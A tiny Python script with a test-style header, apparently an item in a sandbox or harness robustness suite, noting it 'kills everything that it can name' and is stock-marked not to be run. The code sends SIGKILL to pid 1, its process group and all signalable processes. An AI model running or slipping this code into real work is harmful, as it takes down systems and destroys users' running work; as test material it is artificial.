# ---
# about: kills everything that it can name (its group, all processes, pid 1), the keeper among them
# proof: the kernel ended
# problem: the kernel ended
# stock: "not run: kills the process that runs it"
# ---

# %% mean
import os
import signal

for number in (1, 0, -1):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
